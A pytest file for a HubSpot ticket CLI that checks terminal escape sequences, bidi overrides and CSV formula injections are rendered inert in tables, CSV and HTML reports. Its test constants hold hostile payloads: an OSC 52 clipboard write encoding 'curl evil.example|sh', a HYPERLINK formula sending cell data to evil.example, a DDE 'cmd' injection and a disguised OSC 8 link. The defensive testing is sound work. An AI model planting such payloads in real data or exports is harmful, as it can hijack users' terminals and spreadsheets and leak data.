"""HubSpot's data never drives the agent's terminal nor a supervisor's spreadsheet (issue 20,
part 3): escape sequences, C0/C1 controls and bidi overrides written into contacts, subjects
and descriptions in the sandbox reach every renderer inert; CSV cells that a spreadsheet
would run are quoted; `--json` carries the data exactly."""

from __future__ import annotations

import csv
import io
import json
import re
import time
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

from escalate.domain.text import printable, spreadsheet_cell

from .conftest import ANA, Cli, Sandbox, with_option

# What would clear the screen, colour, hide a link's target (OSC 8), write the clipboard
# (OSC 52), move by an 8-bit CSI, and reverse what is read (RLO).
CLEAR, COLOUR = "\x1b[2J", "\x1b[31m"
LINK = "\x1b]8;;http://evil.example/\x07pulse aquí\x1b]8;;\x07"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"
CSI8, RLO = "\x9b2J", "\u202e"
DRIVERS = ("\x1b", "\x07", "\x9b", "\u202e", "\r")
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"ver")'
COMMAND = "+cmd|' /C calc'!A0"


def no_driver(text: str) -> bool:
    return not any(ch in text for ch in DRIVERS)


def test_printable_shows_every_driver_as_an_inert_symbol_and_keeps_the_rest():
    shown = printable(f"Ana{CLEAR}{LINK}{CLIPBOARD}{CSI8}{RLO}x\r\nLópez 😡")
    assert no_driver(shown) and "\n" not in shown
    assert "␛[2J" in shown and "␛]52;c;" in shown and "pulse aquí" in shown
    assert shown.endswith("López 😡")
    assert printable("uno\n\tdos\rtres", lines=True) == "uno\n\tdos␍tres"


@pytest.mark.parametrize(("cell", "written"), [
    (FORMULA, "'" + FORMULA), (COMMAND, "'" + COMMAND), ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("+52 55 1234 5678", "'+52 55 1234 5678"), ("-12.5", "-12.5"),
    ("-3", "-3"), ("1e-3", "1e-3"), ("Ana López", "Ana López"), (-2.5, -2.5), (7, 7),
    (None, None)])
def test_a_spreadsheet_cell_is_quoted_only_when_it_would_run(cell: object, written: object):
    assert spreadsheet_cell(cell) == written


def _past(cli: Cli, hours: float, policy: str, what: str | None = None) -> str:
    moment = (datetime.now(timezone.utc) - timedelta(hours=hours)).isoformat()
    args = with_option(ANA, "--poliza", policy)
    if what is not None:
        args = with_option(args, "--que", what)
    result = cli("create", *args, "--fecha", moment, "--json", "--no-input",
                 "--aceptar-contacto")
    assert result.code == 0, result.err
    return str(result.json()["id"])


@pytest.fixture
def hostile(cli: Cli, sandbox: Sandbox) -> tuple[str, str]:
    """An overdue ticket whose contact's name and ticket's subject HubSpot holds with every
    driver in them (written by someone else, through the API)."""
    ticket_id = _past(cli, 72, "POL-66")
    contact_id = sandbox.ticket(ticket_id).associations["contacts"].results[0].id
    name = f"{FORMULA}{CLEAR}{CLIPBOARD}"
    sandbox.client.crm.contacts.basic_api.update(contact_id, simple_public_object_input={
        "properties": {"firstname": name, "lastname": f"{COLOUR}López{RLO}{CSI8}"}})
    sandbox.client.crm.tickets.basic_api.update(ticket_id, simple_public_object_input={
        "properties": {"subject": f"POL-66 - {LINK}"}})
    return ticket_id, name


def test_followup_tables_and_csv_on_a_terminal_show_hubspot_text_inert(
        cli: Cli, sandbox: Sandbox, hostile: tuple[str, str]):
    ticket_id, name = hostile
    for args in (["followup", "--todos"], ["followup", "--todos", "--csv"]):
        result = cli(*args)
        assert result.code == 0, result.err
        assert ticket_id in result.out and "␛" in result.out
        assert no_driver(result.out + result.err), args
    on_terminal = cli("followup", "--todos", keys="")
    # The client's cell wraps at fixed widths: read it back without the borders and breaks.
    assert no_driver(on_terminal.out) and "␛[2J" in re.sub(r"[\s│]", "", on_terminal.out)
    [row] = csv.DictReader(io.StringIO(cli("followup", "--todos", "--csv").out))
    assert row["contact_name"].startswith("'=HYPERLINK(")
    assert row["contact_phone"] == "'+52 55 1234 5678"
    [item] = json.loads(cli("followup", "--todos", "--json").out)
    assert item["contact"]["name"].startswith(name)  # --json: the data exactly as it is
    assert item["subject"] == f"POL-66 - {LINK}"


def test_the_report_tables_and_csv_files_neutralise_what_agents_and_hubspot_wrote(
        cli: Cli, sandbox: Sandbox, tmp_path: Path):
    for n in range(3):  # a recurring problem whose QUÉ a spreadsheet would run
        _past(cli, 30 + n, f"POL-7{n}", what=COMMAND)
    created = str(int((time.time() - 40 * 3600) * 1000))
    sandbox.control("POST", "history", {"object": "tickets", "records": [{
        "created_at": created, "associations": {"contacts": ["1001"]},
        "properties": {"subject": "POL-80 - Ana", "hs_pipeline": "0", "hs_pipeline_stage": "2",
                       "hs_ticket_priority": "HIGH",
                       "content": f"QUÉ:\nOtro{CLEAR}\n\nDÓNDE:\nApp{RLO}\n\nCANAL:\n{LINK}"}}]})
    since = (datetime.now(timezone.utc) - timedelta(days=5)).date().isoformat()
    folder = tmp_path / "csv"
    page = tmp_path / "informe.html"
    assert cli("report", "--desde", since, "--csv", str(folder), "--html", str(page)).code == 0
    result = cli("report", "--desde", since)
    assert result.code == 0, result.err
    assert "pulse aquí" in result.out and "+cmd|" in result.out
    assert no_driver(result.out + result.err)
    html = page.read_text(encoding="utf-8")
    assert "pulse aquí" in html and no_driver(html)
    with (folder / "recurrentes.csv").open(encoding="utf-8", newline="") as handle:
        [recurring] = list(csv.DictReader(handle))
    assert recurring["problema"] == "'" + COMMAND
    as_json = cli("report", "--desde", since, "--json").json()
    assert any(LINK in c["key"] for c in as_json["by_channel"])  # --json: as HubSpot holds it
